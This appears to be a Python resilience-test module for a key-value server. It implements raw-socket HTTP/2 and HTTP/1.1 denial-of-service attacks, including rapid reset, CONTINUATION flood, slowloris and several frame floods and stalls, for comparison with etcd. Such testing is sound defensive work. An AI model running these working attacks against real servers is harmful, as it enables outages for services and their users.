"""Hostile HTTP/2 clients: the attacks a member's client URL must shrug off.

Each attack is a function ``attack(host, port, seconds) -> AttackResult`` over raw sockets,
written from RFC 9113 and RFC 7541 alone (no HTTP/2 library, so nothing in it is polite by
accident). They run the same against raftkv and against etcd: ``tests/abuse`` asserts what
raftkv does with them, ``benchmarks/abuse.py`` prints both side by side.

- ``rapid_reset``: a Put's HEADERS and DATA, then RST_STREAM, as fast as the socket takes
  them (CVE-2023-44487);
- ``table_updates``: header blocks of nothing but dynamic-table size updates, 256 KiB each;
- ``header_lists``: distinct valid header blocks of 1,700 headers each, never answered;
- ``zero_window_ranges``: SETTINGS_INITIAL_WINDOW_SIZE 0, then Ranges whose answers can
  never be sent;
- ``never_read``: windows wide open, Ranges, and a socket nobody reads;
- ``settings_flood``: 100,000 SETTINGS frames, the ACKs never read;
- ``continuation_flood``: one header block that never ends (CVE-2024-27316);
- ``ping_flood``: PINGs as fast as the socket takes them;
- ``open_streams``: 10,000 streams opened and left open;
- ``preface_only``: 200 connections that send the preface and nothing else;
- ``oversized_grpc`` and ``oversized_http``: requests of 3 MB, past the request limit, in
  both dialects;
- ``slowloris``: 200 HTTP/1.1 requests whose headers come a line a second and never end;
- ``watch_flood``: one Watch stream asking for 10,000 watchers;
- ``watch_never_read``: a Watch on a busy prefix with a zero window.

The result says what the server answered: the GOAWAY's error code if one came, whether the
server closed the connection, how much was sent, and how long it took.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from hpack import Decoder, Encoder

from kvserver.etcdpb import rpc_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0,
    0x1,
    0x3,
    0x4,
    0x6,
    0x7,
    0x8,
    0x9,
)
END_STREAM, END_HEADERS = 0x1, 0x4
GRPC_STATUS_NAMES = {"1": "CANCELLED", "4": "DEADLINE_EXCEEDED", "8": "RESOURCE_EXHAUSTED"}
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}


@dataclass
class AttackResult:
    name: str
    goaway: int | None = None  # the error code of the server's GOAWAY, if one came
    resets: dict[int, int] = field(default_factory=dict)  # RST_STREAM codes the server sent
    statuses: dict[str, int] = field(default_factory=dict)  # gRPC statuses (grpc-status)
    http_status: str = ""  # an HTTP/1.1 attack: the status line the server answered
    watch_refusals: dict[str, int] = field(default_factory=dict)  # refused creates, by reason
    closed: bool = False  # the server closed the connection
    sent_bytes: int = 0
    units: int = 0  # streams, frames or connections the attack sent
    seconds: float = 0.0

    def answer(self) -> str:
        """What the server answered, as a person reads it."""
        parts = []
        if self.goaway is not None:
            parts.append("GOAWAY " + ERROR_NAMES.get(self.goaway, hex(self.goaway)))
        for code, n in sorted(self.resets.items()):
            parts.append(f"{n} RST_STREAM {ERROR_NAMES.get(code, hex(code))}")
        for status, n in sorted(self.statuses.items()):
            if status != "0":
                parts.append(f"{n} {GRPC_STATUS_NAMES.get(status, status)}")
        for reason, n in sorted(self.watch_refusals.items()):
            parts.append(f"{n} watches refused ({reason})")
        if self.http_status:
            parts.append(self.http_status)
        if self.closed and self.goaway is None:
            parts.append("closed")
        return ", ".join(parts) or "nothing"


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IBI", (len(payload) << 8) | kind, flags, sid) + payload


def header_frames(sid: int, block: bytes) -> bytes:
    """A header block as HEADERS and CONTINUATIONs of the default maximum frame size."""
    if len(block) <= 16_384:
        return frame(HEADERS, END_HEADERS, sid, block)
    data = frame(HEADERS, 0, sid, block[:16_384])
    for i in range(16_384, len(block), 16_384):
        last = i + 16_384 >= len(block)
        data += frame(CONTINUATION, END_HEADERS if last else 0, sid, block[i : i + 16_384])
    return data


def grpc_message(message: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(message)) + message


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def put_request(key: bytes, value: bytes) -> bytes:
    """An etcdserverpb.PutRequest, encoded by hand (fields 1 and 2)."""
    return b"\x0a" + _varint(len(key)) + key + b"\x12" + _varint(len(value)) + value


def range_request(key: bytes, range_end: bytes) -> bytes:
    """An etcdserverpb.RangeRequest for [key, range_end) (fields 1 and 2)."""
    return b"\x0a" + _varint(len(key)) + key + b"\x12" + _varint(len(range_end)) + range_end


class Reader(threading.Thread):
    """Reads the server's frames in the background (unless told not to read at all) and
    notes its GOAWAY, its resets and the connection's end."""

    def __init__(self, sock: socket.socket, result: AttackResult):
        super().__init__(daemon=True)
        self.sock = sock
        self.result = result
        self.buffer = bytearray()
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.block = bytearray()  # a header block waiting for its CONTINUATIONs
        self.watch_sids: set[int] = set()  # Watch calls: their answers are read
        self.bodies: dict[int, bytearray] = {}  # a Watch call's answer bytes not yet parsed

    def run(self) -> None:
        try:
            while True:
                chunk = self.sock.recv(1 << 20)
                if not chunk:
                    self.result.closed = True
                    return
                self.buffer += chunk
                self._frames()
        except OSError:
            self.result.closed = True

    def _frames(self) -> None:
        buffer, pos = self.buffer, 0
        while len(buffer) - pos >= 9:
            length_type, _flags, _sid = struct.unpack_from(">IBI", buffer, pos)
            length, kind = length_type >> 8, length_type & 0xFF
            if len(buffer) - pos - 9 < length:
                break
            payload = bytes(buffer[pos + 9 : pos + 9 + length])
            if kind in (HEADERS, CONTINUATION):
                self._header_block(kind, _flags, payload)
            elif kind == GOAWAY and len(payload) >= 8:
                self.result.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == DATA and _sid in self.watch_sids:
                self._watch_answers(_sid, payload)
            elif kind == RST_STREAM and len(payload) == 4:
                code = struct.unpack(">I", payload)[0]
                self.result.resets[code] = self.result.resets.get(code, 0) + 1
            pos += 9 + length
        del buffer[:pos]

    def _watch_answers(self, sid: int, payload: bytes) -> None:
        """Counts the refused creates among a Watch call's answers (created and canceled,
        with a reason)."""
        body = self.bodies.setdefault(sid, bytearray())
        body += payload
        while len(body) >= 5:
            size = struct.unpack_from(">I", body, 1)[0]
            if len(body) < 5 + size:
                break
            answer = rpc_pb2.WatchResponse.FromString(bytes(body[5 : 5 + size]))
            del body[: 5 + size]
            if answer.created and answer.canceled:
                refusals = self.result.watch_refusals
                reason = answer.cancel_reason
                refusals[reason] = refusals.get(reason, 0) + 1

    def _header_block(self, kind: int, flags: int, payload: bytes) -> None:
        if kind == HEADERS:
            start, end = 0, len(payload)
            if flags & 0x8:  # PADDED
                start, end = 1, len(payload) - payload[0]
            if flags & 0x20:  # PRIORITY
                start += 5
            self.block = bytearray(payload[start:end])
        else:
            self.block += payload
        if not flags & END_HEADERS:
            return
        for name, value in self.decoder.decode(bytes(self.block)):
            if name == "grpc-status":
                status = str(value)
                statuses = self.result.statuses
                statuses[status] = statuses.get(status, 0) + 1
        self.block = bytearray()


class Attacker:
    """One raw HTTP/2 connection."""

    def __init__(self, host: str, port: int, name: str, *, read: bool = True):
        self.result = AttackResult(name)
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.settimeout(None)
        self.encoder = Encoder()
        self.next_sid = 1
        self.send_failed = False  # the server stopped taking bytes (closed, or reset us)
        self.reader: Reader | None = None
        if read:
            self.reader = Reader(self.sock, self.result)
            self.reader.start()

    def send(self, data: bytes) -> bool:
        """False once the server has ended the connection, or answered GOAWAY."""
        if self.send_failed or self.result.closed or self.result.goaway is not None:
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            self.send_failed = True
            return False
        self.result.sent_bytes += len(data)
        return True

    def start(self, settings: bytes = b"") -> None:
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def call_headers(self, path: str, *, encoder: Encoder | None = None) -> bytes:
        return (encoder or self.encoder).encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", "raftkv"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ]
        )

    def open_call(self, path: str, message: bytes | None, *, end: bool = True) -> int:
        sid = self.next_sid
        self.next_sid += 2
        data = frame(HEADERS, END_HEADERS, sid, self.call_headers(path))
        if path == WATCH and self.reader is not None:
            self.reader.watch_sids.add(sid)
        if message is not None:
            data += frame(DATA, END_STREAM if end else 0, sid, grpc_message(message))
        self.send(data)
        return sid

    def wait_answer(self, seconds: float) -> None:
        """Waits up to ``seconds`` for the server to end the connection (what it sent before
        is read by then)."""
        if self.reader is not None:
            self.reader.join(seconds)
            return
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.send_failed:
            time.sleep(0.05)

    def close(self) -> AttackResult:
        try:
            self.sock.close()
        except OSError:
            pass
        return self.result


def _timed(name: str, body: Callable[[AttackResult], None]) -> AttackResult:
    started = time.monotonic()
    result = AttackResult(name)
    body(result)
    result.seconds = time.monotonic() - started
    return result


PUT = "/etcdserverpb.KV/Put"
RANGE = "/etcdserverpb.KV/Range"


def rapid_reset(host: str, port: int, seconds: float) -> AttackResult:
    a = Attacker(host, port, "rapid reset")
    a.start()
    started = time.monotonic()
    message = grpc_message(put_request(b"abuse/rapid", b"x" * 64))
    while time.monotonic() - started < seconds:
        batch = bytearray()
        for _ in range(100):
            sid = a.next_sid
            a.next_sid += 2
            batch += frame(HEADERS, END_HEADERS, sid, a.call_headers(PUT))
            batch += frame(DATA, END_STREAM, sid, message)
            batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 0x8))
            a.result.units += 1
        if not a.send(bytes(batch)):
            break
    a.wait_answer(2.0)
    a.result.seconds = time.monotonic() - started
    return a.close()


def table_updates(host: str, port: int, seconds: float) -> AttackResult:
    a = Attacker(host, port, "table-size updates")
    a.start()
    started = time.monotonic()
    block = b"\x3f\xe1\x1f" * (256 * 1024 // 3)  # "table size 4096" again and again
    while time.monotonic() - started < seconds:
        sid = a.next_sid
        a.next_sid += 2
        data = header_frames(sid, block)
        a.result.units += 1
        if not a.send(data):
            break
    a.wait_answer(2.0)
    a.result.seconds = time.monotonic() - started
    return a.close()


def header_lists(host: str, port: int, seconds: float, connections: int = 8) -> AttackResult:
    """Distinct valid header blocks of 1,700 headers each, on several connections."""

    def body(result: AttackResult) -> None:
        everyone = [Attacker(host, port, "header lists") for _ in range(connections)]
        attackers = list(everyone)
        for a in attackers:
            a.start()
        started, n = time.monotonic(), 0
        while time.monotonic() - started < seconds and attackers:
            for a in list(attackers):
                n += 1
                fields = [(f"x-{n}-{i}", "v") for i in range(1700)]
                block = a.call_headers(RANGE) + a.encoder.encode(fields)
                sid = a.next_sid
                a.next_sid += 2
                data = header_frames(sid, block)
                result.units += 1
                if not a.send(data):
                    attackers.remove(a)
        for a in everyone:
            a.wait_answer(0.5)
        _merge(result, everyone)

    return _timed("header lists", body)


def zero_window_ranges(
    host: str, port: int, seconds: float, prefix: bytes = b"abuse/big/", calls: int = 500
) -> AttackResult:
    a = Attacker(host, port, "zero window")
    a.start(struct.pack(">HI", 0x4, 0))  # SETTINGS_INITIAL_WINDOW_SIZE 0
    started = time.monotonic()
    end = prefix[:-1] + bytes([prefix[-1] + 1])
    message = range_request(prefix, end)
    for _ in range(calls):
        a.open_call(RANGE, message)
        a.result.units += 1
    a.wait_answer(seconds)
    a.result.seconds = time.monotonic() - started
    return a.close()


def never_read(
    host: str, port: int, seconds: float, prefix: bytes = b"abuse/big/", calls: int = 500
) -> AttackResult:
    a = Attacker(host, port, "never read", read=False)
    a.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    a.start(struct.pack(">HI", 0x4, 2**31 - 1))
    a.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
    started = time.monotonic()
    end = prefix[:-1] + bytes([prefix[-1] + 1])
    message = range_request(prefix, end)
    for _ in range(calls):
        a.sock.settimeout(1.0)
        try:
            a.open_call(RANGE, message)
        except OSError:
            break
        a.result.units += 1
    time.sleep(max(0.0, seconds - (time.monotonic() - started)))  # the attack is to wait
    a.result.seconds = time.monotonic() - started
    return a.close()


def settings_flood(host: str, port: int, seconds: float, count: int = 100_000) -> AttackResult:
    a = Attacker(host, port, "SETTINGS flood", read=False)
    a.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    a.sock.settimeout(seconds)
    a.start()
    started = time.monotonic()
    batch = frame(SETTINGS, 0, 0) * 1000
    try:
        for _ in range(count // 1000):
            a.sock.sendall(batch)
            a.result.units += 1000
            if time.monotonic() - started > seconds:
                break
    except OSError:  # the server stopped reading us, or closed
        a.result.closed = True
    a.result.seconds = time.monotonic() - started
    return a.close()


def continuation_flood(host: str, port: int, seconds: float) -> AttackResult:
    a = Attacker(host, port, "CONTINUATION flood")
    a.start()
    started = time.monotonic()
    a.send(frame(HEADERS, 0, 1, a.call_headers(PUT)))
    chunk = frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000)
    while time.monotonic() - started < seconds and a.send(chunk):
        a.result.units += 1
    a.wait_answer(2.0)
    a.result.seconds = time.monotonic() - started
    return a.close()


def ping_flood(host: str, port: int, seconds: float) -> AttackResult:
    a = Attacker(host, port, "PING flood")
    a.start()
    started = time.monotonic()
    batch = frame(PING, 0, 0, b"abuse!!!") * 100
    while time.monotonic() - started < seconds and a.send(batch):
        a.result.units += 100
    a.wait_answer(2.0)
    a.result.seconds = time.monotonic() - started
    return a.close()


def open_streams(host: str, port: int, seconds: float, streams: int = 10_000) -> AttackResult:
    a = Attacker(host, port, "10,000 open streams")
    a.start()
    started = time.monotonic()
    message = put_request(b"abuse/open", b"x")
    for _ in range(streams):
        a.open_call(PUT, message, end=False)  # never half-closed: the call never runs
        a.result.units += 1
        if a.send_failed or a.result.closed:
            break
    a.wait_answer(min(2.0, seconds))
    a.result.seconds = time.monotonic() - started
    return a.close()


def preface_only(host: str, port: int, seconds: float, connections: int = 200) -> AttackResult:
    def body(result: AttackResult) -> None:
        attackers = []
        for _ in range(connections):
            try:
                a = Attacker(host, port, "preface only")
            except OSError:
                break
            a.send(PREFACE)
            attackers.append(a)
            result.units += 1
        time.sleep(seconds)
        _merge(result, attackers)

    return _timed("200 preface-only connections", body)


def _send_message(a: Attacker, sid: int, message: bytes, *, end: bool) -> bool:
    """A gRPC message on stream ``sid`` in frames of the default maximum size."""
    data = grpc_message(message)
    frames = bytearray()
    for i in range(0, len(data), 16_384):
        last = i + 16_384 >= len(data)
        frames += frame(DATA, END_STREAM if (end and last) else 0, sid, data[i : i + 16_384])
    return a.send(bytes(frames))


def oversized_grpc(host: str, port: int, seconds: float, calls: int = 20) -> AttackResult:
    """Puts of 3 MB, past the request limit: the server answers before the body is in."""
    a = Attacker(host, port, "oversized gRPC requests")
    a.start()
    started = time.monotonic()
    announced = b"\x00" + struct.pack(">I", 3_000_000)  # the message prefix of a 3 MB put
    for _ in range(calls):
        sid = a.next_sid
        a.next_sid += 2
        head = frame(HEADERS, END_HEADERS, sid, a.call_headers(PUT))
        body = frame(DATA, 0, sid, announced + b"x" * 16_000) + frame(DATA, END_STREAM, sid)
        if not a.send(head + body):
            break
        a.result.units += 1
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and sum(a.result.statuses.values()) < a.result.units:
        time.sleep(0.05)
    a.result.seconds = time.monotonic() - started
    return a.close()


def oversized_http(host: str, port: int, seconds: float, calls: int = 5) -> AttackResult:
    """HTTP/1.1 puts with a 3 MB body, past the request limit."""

    def body(result: AttackResult) -> None:
        head = (
            b"POST /v3/kv/put HTTP/1.1\r\nHost: raftkv\r\nContent-Type: application/json\r\n"
            b"Content-Length: 3000000\r\n\r\n"
        )
        for _ in range(calls):
            with socket.create_connection((host, port), timeout=max(1.0, seconds)) as sock:
                try:
                    sock.sendall(head)
                    for _ in range(3_000_000 // 65_536):
                        sock.sendall(b"x" * 65_536)
                        result.sent_bytes += 65_536
                except OSError:
                    pass  # the server answered and stopped reading
                try:
                    line = sock.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
                except OSError:
                    line = ""
                result.http_status = line.replace("HTTP/1.1 ", "HTTP ") or "closed"
                result.units += 1

    return _timed("oversized HTTP/1.1 requests", body)


def slowloris(host: str, port: int, seconds: float, connections: int = 200) -> AttackResult:
    """HTTP/1.1 requests whose headers come one line a second, never ending."""

    def body(result: AttackResult) -> None:
        socks = []
        for _ in range(connections):
            try:
                sock = socket.create_connection((host, port), timeout=5)
                sock.sendall(b"GET /health HTTP/1.1\r\nHost: raftkv\r\n")
            except OSError:
                break
            socks.append(sock)
            result.units += 1
        started = time.monotonic()
        while time.monotonic() - started < seconds:
            time.sleep(1.0)
            for sock in list(socks):
                try:
                    sock.sendall(b"X-Slow: 1\r\n")
                    result.sent_bytes += 11
                except OSError:
                    socks.remove(sock)
                    result.closed = True  # the server gave up on it
        for sock in socks:
            sock.close()

    return _timed("slowloris", body)


def _watch_create(key: bytes, range_end: bytes = b"") -> bytes:
    """An etcdserverpb.WatchRequest with a create_request (field 1) for [key, range_end)."""
    create = b"\x0a" + _varint(len(key)) + key
    if range_end:
        create += b"\x12" + _varint(len(range_end)) + range_end
    return b"\x0a" + _varint(len(create)) + create


WATCH = "/etcdserverpb.Watch/Watch"


def watch_flood(host: str, port: int, seconds: float, watchers: int = 10_000) -> AttackResult:
    """One Watch stream that asks for 10,000 watchers."""
    a = Attacker(host, port, "10,000 watchers")
    a.start()
    started = time.monotonic()
    sid = a.open_call(WATCH, None)
    batch = bytearray()
    for i in range(watchers):
        batch += grpc_message(_watch_create(b"abuse/watched/%05d" % i))
        a.result.units += 1
        if len(batch) > 16_000 or i == watchers - 1:
            if not a.send(frame(DATA, 0, sid, bytes(batch))):
                break
            batch.clear()
    a.wait_answer(max(0.0, seconds - (time.monotonic() - started)))
    a.result.seconds = time.monotonic() - started
    return a.close()


def watch_never_read(host: str, port: int, seconds: float) -> AttackResult:
    """A Watch on every abuse/ key with a zero window, while 100 KB puts land there: its
    events can never be sent."""
    a = Attacker(host, port, "a watch never read")
    a.start(struct.pack(">HI", 0x4, 0))
    sid = a.open_call(WATCH, None)
    _send_message(a, sid, _watch_create(b"abuse/", b"abuse0"), end=False)
    writer = Attacker(host, port, "writer")
    writer.start()
    started = time.monotonic()
    value = b"w" * 100_000
    while time.monotonic() - started < seconds:
        writer.open_call(PUT, put_request(b"abuse/written/%d" % (a.result.units % 64), value))
        a.result.units += 1
        time.sleep(0.01)
    writer.close()
    a.result.seconds = time.monotonic() - started
    return a.close()


def _merge(result: AttackResult, attackers: list[Attacker]) -> None:
    for a in attackers:
        result.sent_bytes += a.result.sent_bytes
        for code, n in a.result.resets.items():
            result.resets[code] = result.resets.get(code, 0) + n
        if a.result.goaway is not None:
            result.goaway = a.result.goaway
        result.closed = result.closed or a.result.closed
        a.close()


ATTACKS: dict[str, Callable[[str, int, float], AttackResult]] = {
    "rapid_reset": rapid_reset,
    "table_updates": table_updates,
    "header_lists": header_lists,
    "zero_window": zero_window_ranges,
    "never_read": never_read,
    "settings_flood": settings_flood,
    "continuation_flood": continuation_flood,
    "ping_flood": ping_flood,
    "open_streams": open_streams,
    "preface_only": preface_only,
    "oversized_grpc": oversized_grpc,
    "oversized_http": oversized_http,
    "slowloris": slowloris,
    "watch_flood": watch_flood,
    "watch_never_read": watch_never_read,
}
